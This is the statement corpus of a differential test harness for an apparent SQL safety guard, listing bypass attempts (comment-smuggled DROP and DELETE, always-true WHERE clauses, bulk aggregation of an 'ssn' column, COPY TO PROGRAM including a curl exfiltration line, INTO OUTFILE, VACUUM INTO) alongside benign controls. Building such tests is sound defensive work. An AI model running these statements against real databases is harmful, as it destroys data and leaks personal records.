## The differential harness's statement corpus (tests/differential/main.rs reads it).
## One case per line; `\n`, `\r`, `\t` and `\\` are escapes for the characters they name.
## A line may start with `[sqlite] ` or `[postgres] ` to run against that database only
## (otherwise both). `@DIR@` becomes the oracle's scratch directory and `@PROGRAM@` a shell
## command that leaves a flag file there (PostgreSQL COPY ... PROGRAM). Lines starting with
## `##` and blank lines are ignored.

## ---- adversarial examples: issue 9 and the classes it names ----
## Parser differentials: nested block comments, `--` ended by CR, `#`, backslash escapes.
/* a /* b */ c */ DROP TABLE users
/* a /* b */ c */ DELETE FROM users
/* a /* b */ c */ SELECT * FROM users
/* /* */ DROP TABLE users */ SELECT 1
-- hidden\rDROP TABLE users
-- hidden\rDELETE FROM users
-- hidden\rSELECT * FROM users
SELECT 1 -- x\rUNION ALL SELECT ssn FROM users
SELECT * FROM users --\rLIMIT 5
SELECT * FROM users /* LIMIT 5 */
SELECT * FROM users /* /* */ LIMIT 5 */
SELECT * FROM users WHERE name = 'a\\' LIMIT 5 OR ''='' --'
[postgres] SELECT * FROM users WHERE name = E'a\\' LIMIT 5 OR ''='' --' LIMIT 5
[postgres] SELECT * FROM users WHERE name = $$ LIMIT 5 $$
[postgres] SELECT $a$ ; $a$ || ssn FROM users
[postgres] SELECT * FROM users WHERE name = $tag$x$tag$ LIMIT 5
SELECT * FROM users LIMIT 5 --x
SELECT * FROM users LIMIT 5 -- x\rOFFSET 0
SELECT * FROM users #\rLIMIT 5
DELETE FROM users WHERE id = 1 --\rOR 1=1
DELETE FROM users WHERE id = 1 /* /* */ OR 1=1 --*/
DELETE FROM users WHERE id = 1 /* /* */ OR 1=1 */
SELECT * FROM users WHERE "id" = 1 LIMIT 5
SELECT * FROM "users" LIMIT 5
SELECT * FROM [users]
SELECT * FROM `users`
## Unmodelled destruction.
[postgres] MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE
[postgres] MERGE INTO users u USING (SELECT 1 AS k) s ON true WHEN MATCHED THEN UPDATE SET name = 'x'
INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET name = 'x'
[sqlite] INSERT INTO users SELECT * FROM users WHERE true ON CONFLICT (id) DO UPDATE SET name = 'x'
[sqlite] INSERT OR REPLACE INTO users SELECT id, 'x', 'x', 'x', 1 FROM users
[sqlite] REPLACE INTO users SELECT id, 'x', 'x', 'x', 1 FROM users
[sqlite] INSERT OR REPLACE INTO orders (id, user_id, item, amount) SELECT id, 0, '', 0 FROM orders
CREATE OR REPLACE TABLE users (id INTEGER)
ALTER TABLE users DROP COLUMN ssn
ALTER TABLE users RENAME TO users_old
ALTER TABLE users RENAME COLUMN ssn TO s
[postgres] ALTER TABLE users ALTER COLUMN ssn TYPE INTEGER USING 0
[postgres] ALTER TABLE users ALTER COLUMN name SET DEFAULT 'x'; UPDATE users SET name = DEFAULT WHERE id = id
[postgres] DO $$ BEGIN DELETE FROM users; END $$
[postgres] DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$
[postgres] DO 'BEGIN DROP TABLE users; END'
[postgres] CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'; SELECT f()
[postgres] CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN TRUNCATE users; END$$; SELECT f()
[postgres] PREPARE p AS DELETE FROM users; EXECUTE p
[postgres] COPY users FROM PROGRAM '@PROGRAM@'
[postgres] COPY (SELECT 1) TO PROGRAM '@PROGRAM@'
[postgres] COPY users TO '@DIR@/users.csv'
[postgres] COPY (SELECT * FROM users) TO '@DIR@/users.csv'
[postgres] SELECT lo_export(lo_from_bytea(0, 'x'), '@DIR@/lo.bin')
[postgres] EXPLAIN (ANALYZE) DELETE FROM users
[postgres] EXPLAIN ANALYSE DELETE FROM users
[postgres] EXPLAIN ANALYZE DELETE FROM users
[postgres] EXPLAIN (ANALYZE true, FORMAT json) UPDATE users SET name = 'x'
[postgres] EXPLAIN ANALYZE SELECT * FROM users
[postgres] CREATE RULE r AS ON INSERT TO users DO ALSO DELETE FROM orders
[postgres] CREATE FUNCTION trapf() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN DELETE FROM orders; RETURN NEW; END$$; CREATE TRIGGER trap AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION trapf()
[sqlite] CREATE TRIGGER trap AFTER INSERT ON users BEGIN DELETE FROM orders; END
[sqlite] CREATE TRIGGER trap AFTER UPDATE ON users BEGIN UPDATE t SET a = 'x'; END
CREATE VIEW v AS SELECT * FROM users
CREATE INDEX i ON users (name)
CREATE TABLE copy AS SELECT * FROM users
## Constant-true WHERE folding.
DELETE FROM users WHERE 2/2
DELETE FROM users WHERE 1 IN (1, id)
DELETE FROM users WHERE "id" = id
DELETE FROM users WHERE EXISTS (SELECT 1)
DELETE FROM users WHERE id = id OR id = 3
DELETE FROM users WHERE id IS NOT NULL
DELETE FROM users WHERE id = id AND 1 = 1
DELETE FROM users WHERE NOT (id <> id)
DELETE FROM users WHERE id IN (SELECT id FROM users)
DELETE FROM users WHERE coalesce(1, id) = 1
DELETE FROM users WHERE length('a') = 1
DELETE FROM users WHERE abs(-1) = 1
DELETE FROM users WHERE (SELECT 1) = 1
DELETE FROM users WHERE 1 = 1 OR id = 3
DELETE FROM users WHERE 'x' LIKE '%'
DELETE FROM users WHERE NULL IS NULL
DELETE FROM users WHERE id BETWEEN id AND id
DELETE FROM users WHERE id + 0 = id
DELETE FROM users WHERE upper(name) = upper(name)
DELETE FROM users WHERE CASE WHEN id = 3 THEN true ELSE true END
UPDATE users SET name = 'x' WHERE 2/2
UPDATE users SET name = 'x' WHERE 1 IN (1, id)
UPDATE users SET name = 'x' WHERE "id" = id
UPDATE users SET name = 'x' WHERE EXISTS (SELECT 1)
[sqlite] DELETE FROM users WHERE 1 IS 1
[sqlite] DELETE FROM users WHERE id IS id
[sqlite] DELETE FROM users WHERE 'a' GLOB '*'
[sqlite] DELETE FROM users WHERE iif(1, 1, 0)
[sqlite] DELETE FROM users WHERE rowid = rowid
[sqlite] DELETE FROM users WHERE "id" = "id"
[postgres] DELETE FROM users WHERE id IS NOT DISTINCT FROM id
[postgres] DELETE FROM users WHERE true::int = 1
[postgres] DELETE FROM users WHERE 1 = ANY(ARRAY[1, id])
[postgres] DELETE FROM users u USING orders o WHERE o.user_id = u.id
[postgres] UPDATE users SET name = 'x' FROM orders WHERE orders.user_id = users.id
[postgres] DELETE FROM users WHERE ctid = ctid
## True for every non-NULL value of the columns they name (the fixture's NULL rows survive).
DELETE FROM users WHERE email IS NOT NULL
DELETE FROM users WHERE (id = 2) IS NOT NULL
UPDATE users SET name = 'x' WHERE name LIKE '%'
UPDATE orders SET item = NULL WHERE item IS NOT NULL AND amount = amount
## Found by the generator against main at 5c8172b (tests/differential/FOUND.md), minimised.
DELETE FROM users WHERE CASE WHEN id = 3 THEN 1 ELSE 1 END = 1
[sqlite] DELETE FROM users WHERE NOT "FALSE"
[sqlite] DELETE FROM users WHERE "yes" = 'yes'
[postgres] MERGE INTO users u USING (SELECT 1 AS k) s ON 1 = 1 WHEN MATCHED THEN UPDATE SET name = 'x'
## Real filters that match every marked row but not the fixture's outliers: no violation.
DELETE FROM users WHERE id > 0
DELETE FROM users WHERE id IN (SELECT user_id FROM orders)
DELETE FROM orders WHERE user_id IN (SELECT id FROM users)
DELETE FROM users WHERE email LIKE '%@example.com'
UPDATE users SET name = 'x' WHERE name <> ''
UPDATE orders SET amount = 0 WHERE amount BETWEEN 1 AND 100000
DELETE FROM users WHERE email IS NULL
DELETE FROM t WHERE id IN (SELECT id FROM users)
## Whole-table reads.
DELETE FROM users WHERE id = 3 RETURNING *
DELETE FROM users WHERE id = id RETURNING *
UPDATE users SET age = age WHERE id = 3 RETURNING *
UPDATE users SET age = age WHERE 1 IN (1, id) RETURNING name, ssn
INSERT INTO t (id, a) SELECT id + 100, ssn FROM users RETURNING a
INSERT INTO orders SELECT id + 100, 1, ssn, 1 FROM users RETURNING item
WITH RECURSIVE r(i, acc) AS (SELECT 0, '' UNION ALL SELECT r.i + 1, r.acc || (SELECT ssn FROM users WHERE id = r.i + 1) FROM r WHERE r.i < 2000) SELECT max(acc) FROM r
WITH RECURSIVE r(i, acc) AS (SELECT 0, '' UNION ALL SELECT r.i + 1, r.acc || (SELECT ssn FROM users WHERE id = r.i + 1) FROM r WHERE r.i < 2000) SELECT acc FROM r ORDER BY i DESC LIMIT 1
WITH RECURSIVE r(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM r WHERE id < 2000) SELECT u.ssn FROM r JOIN users u ON u.id = r.id
[postgres] SELECT generate_series(1, 2000)
[postgres] SELECT (SELECT ssn FROM users WHERE id = g) FROM generate_series(1, 2000) g
[postgres] SELECT unnest(ARRAY(SELECT ssn FROM users))
[postgres] SELECT ARRAY(SELECT ssn FROM users)
[postgres] SELECT array_to_string(ARRAY(SELECT ssn FROM users), ',')
[postgres] SELECT string_agg(ssn, ',') FROM users
[postgres] SELECT xmlagg(xmlelement(name x, ssn)) FROM users
[postgres] SELECT jsonb_agg(users) FROM users
[postgres] SELECT to_json(array_agg(ssn)) FROM users
[postgres] SELECT json_object_agg(id, ssn) FROM users
[postgres] SELECT (SELECT string_agg(ssn, ',') FROM users) AS x
[postgres] SELECT max(ssn || (SELECT string_agg(ssn, '') FROM users)) FROM users
[postgres] SELECT count(*) FILTER (WHERE true), string_agg(ssn, ',') FROM users
[postgres] SELECT query_to_xml('SELECT * FROM users', true, true, '')
[postgres] SELECT table_to_xml('users', true, true, '')
[postgres] SELECT database_to_xml(true, true, '')
[postgres] SELECT * FROM dblink('x', 'SELECT 1') AS t(a int)
[postgres] CREATE AGGREGATE cat(text) (SFUNC = textcat, STYPE = text); SELECT cat(ssn) FROM users
[postgres] SELECT (xpath('/', query_to_xml('SELECT ssn FROM users', true, false, '')))[1]
[postgres] SELECT encode(string_agg(ssn, '')::bytea, 'hex') FROM users
[postgres] SELECT min(u) FROM (SELECT string_agg(ssn, ',') AS u FROM users) s
[postgres] SELECT * FROM ROWS FROM (generate_series(1, 2000))
[postgres] TABLE users
[postgres] TABLE users LIMIT 5
[postgres] SELECT * FROM users FETCH FIRST 5 ROWS WITH TIES
[postgres] SELECT * FROM users ORDER BY 'x' FETCH FIRST 1 ROWS WITH TIES
[postgres] SELECT * FROM users LIMIT ALL
[postgres] SELECT * FROM users LIMIT NULL
[postgres] SELECT * FROM users OFFSET 0 ROWS FETCH NEXT 5 ROWS ONLY
[sqlite] SELECT group_concat(ssn) FROM users
[sqlite] SELECT group_concat(DISTINCT ssn) FROM users
[sqlite] SELECT max(group_concat(ssn)) OVER () FROM users LIMIT 1
[sqlite] SELECT group_concat(ssn) OVER () FROM users LIMIT 1
[sqlite] SELECT string_agg(ssn, ',') FROM users
[sqlite] SELECT json_group_array(ssn) FROM users
[sqlite] SELECT json_group_object(id, ssn) FROM users
[sqlite] SELECT hex(group_concat(ssn)) FROM users
[sqlite] SELECT (SELECT group_concat(ssn) FROM users)
[sqlite] SELECT * FROM users LIMIT -1
[sqlite] SELECT * FROM users LIMIT 5 OFFSET -1
[sqlite] SELECT * FROM users LIMIT 2000, 5
[sqlite] SELECT * FROM users LIMIT 5, 2000
[sqlite] SELECT * FROM users LIMIT '5'
[sqlite] SELECT * FROM users LIMIT 5.9
[sqlite] SELECT * FROM users LIMIT (SELECT 2000)
[sqlite] SELECT * FROM users LIMIT 1 << 20
[sqlite] SELECT value FROM json_each((SELECT json_group_array(ssn) FROM users))
[sqlite] SELECT * FROM pragma_table_info('users')
[sqlite] PRAGMA table_info(users)
[sqlite] SELECT name FROM sqlite_master WHERE type = 'table'
[sqlite] SELECT * FROM sqlite_master
[sqlite] WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r LIMIT 2000) SELECT i FROM r
SELECT count(*) FROM users
SELECT count(*), max(ssn) FROM users
SELECT max(ssn) FROM users
SELECT min(name), max(email) FROM users
SELECT count(*) AS n, 1 AS one FROM users
SELECT CASE WHEN count(*) > 0 THEN 'yes' ELSE 'no' END FROM users
SELECT count(*) FROM users GROUP BY id
SELECT max(ssn) FROM users GROUP BY id
SELECT id, count(*) OVER () FROM users
SELECT ssn, row_number() OVER (ORDER BY id) FROM users LIMIT 5
SELECT DISTINCT ssn FROM users
SELECT * FROM users WHERE id IN (SELECT id FROM users LIMIT 5)
SELECT * FROM (SELECT * FROM users LIMIT 5) s
SELECT * FROM users UNION SELECT * FROM users LIMIT 5
SELECT * FROM users LIMIT 5 UNION ALL SELECT * FROM users
SELECT ssn FROM users WHERE id <= 5 UNION ALL SELECT ssn FROM users WHERE id > 5
(SELECT * FROM users LIMIT 5) UNION ALL (SELECT * FROM users LIMIT 5)
SELECT * FROM users EXCEPT SELECT * FROM users WHERE id = 1
SELECT * FROM users INTERSECT SELECT * FROM users
WITH c AS (SELECT * FROM users) SELECT * FROM c LIMIT 5
WITH c AS (SELECT * FROM users LIMIT 5) SELECT * FROM c
WITH c AS (SELECT * FROM users LIMIT 5) SELECT * FROM c, c AS d
SELECT * FROM users u, orders o LIMIT 5
SELECT u.ssn || o.item FROM users u JOIN orders o ON o.user_id = u.id
SELECT ssn FROM users ORDER BY id LIMIT 5
SELECT (SELECT ssn FROM users LIMIT 1) FROM users
SELECT 1 FROM users
SELECT length(ssn) FROM users
SELECT substr(ssn, 1, 3) FROM users
SELECT upper(ssn) FROM users
## One unparseable statement at the end of a multi-statement string; leading `;`.
[postgres] SHOW search_path; COMMIT; DROP TABLE users; SELECT 1 FROM users FOR NO KEY UPDATE SKIP LOCKED
[postgres] SHOW search_path; DROP TABLE users; SELECT * FROM users TABLESAMPLE SYSTEM (10) REPEATABLE (1)
[postgres] DELETE FROM users; SELECT 1 FROM users FOR NO KEY UPDATE SKIP LOCKED
[postgres] COMMIT; DROP TABLE orders
[postgres] ROLLBACK; DELETE FROM orders
[postgres] BEGIN; DELETE FROM orders; COMMIT
[sqlite] DELETE FROM users; SELECT 1 FROM users INDEXED BY nosuchindex
[sqlite] DROP TABLE users; PRAGMA nosuch
[sqlite] ; VACUUM INTO '@DIR@/copy.db'
[sqlite] VACUUM INTO '@DIR@/copy.db'
[sqlite] ;VACUUM INTO '@DIR@/copy2.db'
[sqlite] ; ; VACUUM INTO '@DIR@/copy3.db'
[sqlite] /* x */ ; VACUUM INTO '@DIR@/copy4.db'
[sqlite] ATTACH DATABASE '@DIR@/a.db' AS a
[sqlite] ATTACH '@DIR@/b.db' AS b; CREATE TABLE b.t AS SELECT * FROM users
SELECT 1; DELETE FROM users
SELECT 1; DROP TABLE users
SELECT * FROM users LIMIT 5; SELECT * FROM users
SELECT 1;\nDELETE FROM users
SELECT 1 ; -- x\nDELETE FROM users

## ---- the guard's own test corpus (tests/sql_rules/*.rs) ----
SELECT * FROM t LIMIT -1
SELECT * FROM t LIMIT -1 OFFSET 5
SELECT * FROM t LIMIT 10
SELECT * FROM t LIMIT 10 OFFSET 5
SELECT * FROM t LIMIT 5000, 10
SELECT * FROM t LIMIT 10, 5000
SELECT * FROM t
SELECT group_concat(ssn) FROM users LIMIT 1
SELECT json_group_array(ssn) FROM users
SELECT count(*) FROM t
DELETE FROM t
DROP TABLE t
SELECT * FROM t FETCH FIRST 10 ROWS ONLY
SELECT * FROM t FETCH FIRST 1001 ROWS ONLY
SELECT * FROM t LIMIT ALL
SELECT * FROM t LIMIT $1
SELECT * FROM t OFFSET 10
SELECT string_agg(name, ',') FROM users
SELECT json_agg(u) FROM users u LIMIT 1
WITH c AS (SELECT * FROM t LIMIT 5) SELECT * FROM c
TRUNCATE users
UPDATE t SET a = 1 WHERE TRUE
SELECT * FROM t LIMIT 18446744073709551615 OFFSET 5
SELECT group_concat(ssn SEPARATOR ',') FROM users LIMIT 1
SELECT TOP 10 * FROM users
SELECT TOP (10) * FROM users
SELECT TOP 1000 * FROM users
SELECT TOP 5000 * FROM users
SELECT TOP 10 PERCENT * FROM users
SELECT TOP (@n) * FROM users
SELECT * FROM users
SELECT * FROM (SELECT TOP 5 * FROM users) s
SELECT * FROM users ORDER BY id OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY
SELECT count(*) FROM users
IF 1=1 SELECT * FROM users
IF 1=1 DROP TABLE users
IF 1=1 BEGIN DROP TABLE users END
WHILE 1=1 SELECT * FROM users;
IF 1=1 SELECT TOP 10 * FROM users
DELETE FROM users
SELECT -count(*) FROM t
SELECT (count(*)) FROM t
SELECT CAST(count(*) AS TEXT) FROM t
SELECT count(*) + count(*) FROM t
SELECT count(*) + 1 FROM t
SELECT 1 + 1 FROM t
SELECT -id FROM t
SELECT (id) FROM t
SELECT count(*) + id FROM t
best pizza in town
how do I delete all rows from a table?
show me the best pizza near the station
explain quantum physics like I am five
   \n\t 
-- SELECT * FROM users
/* DROP TABLE users */
select the best option for me
  /* note */ -- line\n ((select )))
select * from users where
update me on the news
Insert a coin
;SELECT * FROM users
 ;; DROP TABLE users
;SELECT * FROM users LIMIT 5
CASE WHEN 1=1 THEN SELECT * FROM users; END CASE
IF 1=1 THEN DROP TABLE users; END IF
CASE WHEN 1=1 THEN DROP TABLE users; END CASE
SELECT * FROM t -- LIMIT 5
SELECT * FROM t /* LIMIT 5 */
SELECT * FROM t WHERE a = 'LIMIT 5'
SELECT "LIMIT 5" FROM t
-- fetch users\nSELECT * FROM users
((SELECT * FROM users))
SELECT * FROM users WHERE id > 5
SELECT DISTINCT name FROM users
SELECT * FROM users ORDER BY id
SELECT * FROM users LIMIT 10
select * from users limit 10
SELECT * FROM users LIMIT 10;
SELECT * FROM users LIMIT 0
SELECT * FROM users LIMIT 1000
SELECT * FROM users LIMIT 1001
SELECT * FROM users LIMIT 99999999999999999999999
SELECT * FROM users LIMIT ALL
SELECT * FROM users LIMIT -1
SELECT * FROM users LIMIT ?
SELECT * FROM users LIMIT $1
SELECT * FROM users LIMIT :n
SELECT * FROM users LIMIT 10+1
SELECT * FROM users LIMIT 1.5
SELECT * FROM users LIMIT (SELECT 5)
SELECT * FROM users LIMIT 10 OFFSET 5000
SELECT * FROM users OFFSET 10
SELECT * FROM users OFFSET 10 ROWS
SELECT * FROM users LIMIT 5000, 10
SELECT * FROM users LIMIT 10, 5000
SELECT * FROM users FETCH FIRST 10 ROWS ONLY
SELECT * FROM users FETCH NEXT 10 ROWS ONLY
SELECT * FROM users ORDER BY id OFFSET 5 ROWS FETCH NEXT 10 ROWS ONLY
SELECT * FROM users FETCH FIRST 5000 ROWS ONLY
SELECT * FROM users FETCH FIRST ROW ONLY
SELECT * FROM users FETCH FIRST 10 PERCENT ROWS ONLY
SELECT * FROM users FETCH FIRST 10 ROWS WITH TIES
SELECT * FROM users FETCH FIRST ? ROWS ONLY
SELECT * FROM a JOIN b ON a.id = b.id ORDER BY a.id LIMIT 10
SELECT * FROM a JOIN b ON a.id = b.id
SELECT 1
SELECT now()
SELECT 1 + 1 AS two, 'x' AS s
SELECT COUNT(*) FROM users WHERE age > 3
SELECT count(*), min(age), max(age), sum(age), avg(age) FROM users
SELECT count(*) + 1 FROM users
SELECT round(avg(age), 2) FROM users
SELECT count(*) AS n FROM users
SELECT count(*) FROM users GROUP BY city
SELECT city, count(*) FROM users GROUP BY city
SELECT city, count(*) FROM users GROUP BY city LIMIT 10
SELECT name, count(*) FROM users
SELECT max(x) OVER (), max(x) FROM users
SELECT count(DISTINCT city) FROM users
SELECT count(*) FROM users HAVING count(*) > 1
SELECT 1 FROM users
SELECT count(*) OVER () FROM users
SELECT sum(age) OVER (PARTITION BY city) FROM users
SELECT count(*) OVER () FROM users LIMIT 10
SELECT json_arrayagg(ssn) FROM users LIMIT 1
SELECT collect_list(ssn) FROM users LIMIT 1
SELECT ARRAY(SELECT ssn FROM users)
SELECT group_concat(ssn) FROM users
SELECT GROUP_CONCAT(ssn) FROM users LIMIT 1
SELECT string_agg(ssn, ',') FROM users LIMIT 1
SELECT array_agg(ssn) FROM users LIMIT 1
SELECT jsonb_agg(u) FROM users u LIMIT 1
SELECT json_group_array(ssn) FROM users LIMIT 1
SELECT json_group_object(id, ssn) FROM users LIMIT 1
SELECT json_object_agg(id, ssn) FROM users LIMIT 1
SELECT listagg(ssn, ',') FROM users LIMIT 1
SELECT xmlagg(ssn) FROM users LIMIT 1
SELECT count(*), group_concat(ssn) FROM users
SELECT city, group_concat(ssn) FROM users GROUP BY city LIMIT 5
SELECT (SELECT group_concat(ssn) FROM users)
WITH c AS (SELECT group_concat(ssn) AS s FROM users) SELECT s FROM c LIMIT 1
SELECT s FROM (SELECT group_concat(ssn) AS s FROM users) x LIMIT 1
SELECT *, (SELECT group_concat(ssn) FROM users) FROM t LIMIT 1
SELECT (SELECT group_concat(ssn) FROM users) AS x LIMIT 1
SELECT a FROM t UNION SELECT b FROM u
SELECT a FROM t UNION SELECT b FROM u LIMIT 5
SELECT a FROM t UNION ALL SELECT b FROM u LIMIT 5
(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5)
(SELECT a FROM t LIMIT 5) UNION ALL (SELECT b FROM u LIMIT 5)
(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u)
(SELECT a FROM t) UNION (SELECT b FROM u LIMIT 5)
(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5) UNION SELECT c FROM v
(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5000)
SELECT a FROM t LIMIT 5 UNION SELECT b FROM u
(SELECT a FROM t LIMIT 5) INTERSECT (SELECT b FROM u LIMIT 5)
SELECT a FROM t INTERSECT SELECT b FROM u
SELECT a FROM t EXCEPT SELECT b FROM u LIMIT 5
SELECT a FROM t EXCEPT SELECT b FROM u
SELECT 1 UNION SELECT 2
SELECT count(*) FROM t UNION ALL SELECT count(*) FROM u
SELECT * FROM (SELECT * FROM t LIMIT 5) s
SELECT * FROM t WHERE id IN (SELECT id FROM u LIMIT 5)
WITH c AS (SELECT * FROM t) SELECT * FROM c LIMIT 5
SELECT * FROM (SELECT * FROM t) s LIMIT 5
WITH c AS (SELECT * FROM t) SELECT count(*) FROM c
(SELECT * FROM t LIMIT 5)
(SELECT * FROM t) LIMIT 5
SELECT 1; SELECT * FROM users
SELECT * FROM users; SELECT 1
INSERT INTO t VALUES (1); SELECT * FROM t
SELECT * FROM users LIMIT 5; DROP TABLE users
SELECT 1; SELECT * FROM t LIMIT 3;
INSERT INTO t2 SELECT * FROM t
CREATE TABLE t2 AS SELECT * FROM t
SELECT * FROM users LIMIT 50
SELECT * FROM users LIMIT 51
SELECT * FROM users FETCH FIRST 51 ROWS ONLY
SELECT * FROM users FETCH FIRST 50 ROWS ONLY
SELECT * FROM users LIMIT 1, 51
SELECT * FROM users LIMIT 100, 50
SELECT * FROM users LIMIT 1
SELECT * FROM t LIMIT 5 BY category
SELECT * FROM t ORDER BY x LIMIT 1 BY a, b
SELECT * FROM t LIMIT 5
COPY users TO '/tmp/x'
VACUUM INTO '/tmp/copy.db'
/*!50000 DROP TABLE users */
SELECT database_to_xml(true, true, '')
EXPLAIN SELECT id FROM orders WHERE id = 3
COPY (SELECT * FROM users) TO STDOUT
COPY (SELECT * FROM users LIMIT 5) TO STDOUT
COPY users FROM '/tmp/x'
SELECT * FROM users INTO OUTFILE '/tmp/x'
select * from users into outfile '/tmp/x'
SELECT * FROM users LIMIT 5 INTO OUTFILE '/tmp/x'
SELECT ssn FROM users LIMIT 1 INTO DUMPFILE '/tmp/x'
SELECT * FROM users INTO /* x */ OUTFILE '/tmp/x'
COPY users TO STDOUT
SELECT 'INTO OUTFILE' FROM t LIMIT 5
ATTACH DATABASE '/tmp/x.db' AS x
COPY users TO STDOUT WITH (FORMAT csv, HEADER)
COPY users TO PROGRAM 'curl -d @- http://x'
COPY users (id, ssn) TO '/tmp/x' WITH (FORMAT csv)
COPY users FROM STDIN
SELECT * INTO OUTFILE '/tmp/x' FROM users
ATTACH '/tmp/x.db' AS x
DROP TABLE users
drop table users
DROP TABLE IF EXISTS users
DROP VIEW v
DROP INDEX i
TRUNCATE TABLE users
UPDATE users SET a = 1
DELETE FROM users WHERE id = 5
UPDATE users SET a = 1 WHERE id = 5
DELETE FROM users WHERE 1=1 AND id = 5
UPDATE users SET a = 1 WHERE 1=1 AND id = 5
DELETE FROM users WHERE id IN (SELECT id FROM banned)
DELETE FROM users WHERE 0
DELETE FROM users WHERE FALSE
DELETE FROM users WHERE id = 5 AND 1=1
DELETE FROM users WHERE id = 5 -- OR 1=1
DROP SCHEMA s CASCADE
DROP DATABASE d
WITH x AS (SELECT 1) DELETE FROM users
WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d
EXPLAIN ANALYZE DELETE FROM users
SELECT 1; DELETE FROM users
DELETE FROM users WHERE 1=0
INSERT INTO users (id, name) VALUES (1, 'a')
CREATE TABLE t (id INT)
CREATE INDEX i ON t (a)
UNLOAD (SELECT * FROM users LIMIT 5) TO 's3://bucket/x'
UNLOAD (SELECT * FROM users) TO 's3://bucket/x'
UNLOAD ('SELECT * FROM users') TO 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/r'
EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS SELECT * FROM users LIMIT 5
EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS SELECT * FROM users
EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS SELECT count(*) FROM users
SELECT * FROM t WHERE "INTO" OUTFILE
SELECT outfile FROM t WHERE
INSERT INTO t VALUES (
VACUUM t garbage (
VACUUM main INTO '/tmp/x'
SELECT * FROM t INTO /* x */ DUMPFILE '/tmp/x'

## ---- tests/sql_rules/folding.rs: DELETE FROM t WHERE <each folded condition> ----
DELETE FROM t WHERE 1 < 2
DELETE FROM t WHERE 2 < 1
DELETE FROM t WHERE 2 < 1 + 1
DELETE FROM t WHERE 2 <= 3
DELETE FROM t WHERE 2 <= 1 + 1
DELETE FROM t WHERE 3 <= 2
DELETE FROM t WHERE 3 > 2
DELETE FROM t WHERE 1 + 1 > 2
DELETE FROM t WHERE 3 >= 2
DELETE FROM t WHERE 2 >= 1 + 1
DELETE FROM t WHERE 2 >= 3
DELETE FROM t WHERE 5 - 2 = 3
DELETE FROM t WHERE 5 - 2 = 7
DELETE FROM t WHERE 5 - 2 = 10
DELETE FROM t WHERE 5 - 2 = 2.5
DELETE FROM t WHERE 2 * 3 = 6
DELETE FROM t WHERE 2 * 3 = 5
DELETE FROM t WHERE (1 + 1) = 2
DELETE FROM t WHERE CAST(1 AS INT) = 1
DELETE FROM t WHERE -2 < 0
DELETE FROM t WHERE -2 > 0
DELETE FROM t WHERE +2 > 0
DELETE FROM t WHERE +2 < 0
DELETE FROM t WHERE (NOT 0) = TRUE
DELETE FROM t WHERE (NOT 1) = TRUE
DELETE FROM t WHERE (1 AND 1) = TRUE
DELETE FROM t WHERE (1 AND 0) = FALSE
DELETE FROM t WHERE (1 AND 0) = TRUE
DELETE FROM t WHERE (1 OR 0) = TRUE
DELETE FROM t WHERE (0 OR 0) = TRUE
DELETE FROM t WHERE 1 IS NOT NULL
DELETE FROM t WHERE NULL IS NOT NULL
DELETE FROM t WHERE (1 = 1) IS TRUE
DELETE FROM t WHERE (1 = 0) IS TRUE
DELETE FROM t WHERE (1 = 1) IS NOT FALSE
DELETE FROM t WHERE (1 = 0) IS NOT FALSE
DELETE FROM t WHERE 5 BETWEEN 0 AND 2
DELETE FROM t WHERE 5 NOT BETWEEN 0 AND 2
DELETE FROM t WHERE 3 IN (3)
DELETE FROM t WHERE 5 IN (1, 2)
DELETE FROM t WHERE 5 NOT IN (1, 2)
DELETE FROM t WHERE 'abc' LIKE '%'
DELETE FROM t WHERE 'abc' LIKE '%%'
DELETE FROM t WHERE 'abc' ILIKE '%'
DELETE FROM t WHERE 'abc' NOT LIKE '%'
DELETE FROM t WHERE 'abc' NOT ILIKE '%'
DELETE FROM t WHERE 'abc' LIKE 'x%'
DELETE FROM t WHERE 'abc' LIKE 'x'
DELETE FROM t WHERE 'abc' LIKE ''
DELETE FROM t WHERE 'a' < 'b'
DELETE FROM t WHERE 'b' < 'a'
DELETE FROM t WHERE '1' = 1
DELETE FROM t WHERE '2' = 1
DELETE FROM t WHERE TRUE > FALSE
DELETE FROM t WHERE TRUE < FALSE
DELETE FROM t WHERE TRUE <> FALSE
DELETE FROM t WHERE '1'
DELETE FROM t WHERE '0'
DELETE FROM t WHERE 'abc'
DELETE FROM t WHERE "TRUE"
DELETE FROM t WHERE "FALSE" = FALSE
DELETE FROM t WHERE 1 = 1 AND 2 = 2
DELETE FROM t WHERE id = id AND 1 = 1
DELETE FROM t WHERE NOT (FALSE AND id = 5)
DELETE FROM t WHERE NOT (id = 5 AND 1 = 0)
DELETE FROM t WHERE NOT (id = 5 AND 1 = 1)
DELETE FROM t WHERE NOT (1 = 0 OR 2 = 3)
DELETE FROM t WHERE NOT (1 = 0 OR id = 5)
DELETE FROM t WHERE (id = id)
DELETE FROM t WHERE ((id <= id))
DELETE FROM t WHERE random() = random()
DELETE FROM t WHERE (SELECT max(id) FROM t) = (SELECT max(id) FROM t)
DELETE FROM t WHERE TRUE
DELETE FROM t WHERE true
DELETE FROM t WHERE NOT FALSE
DELETE FROM t WHERE FALSE
DELETE FROM t WHERE NOT TRUE
DELETE FROM t WHERE [TRUE]
DELETE FROM t WHERE NOT "FALSE"
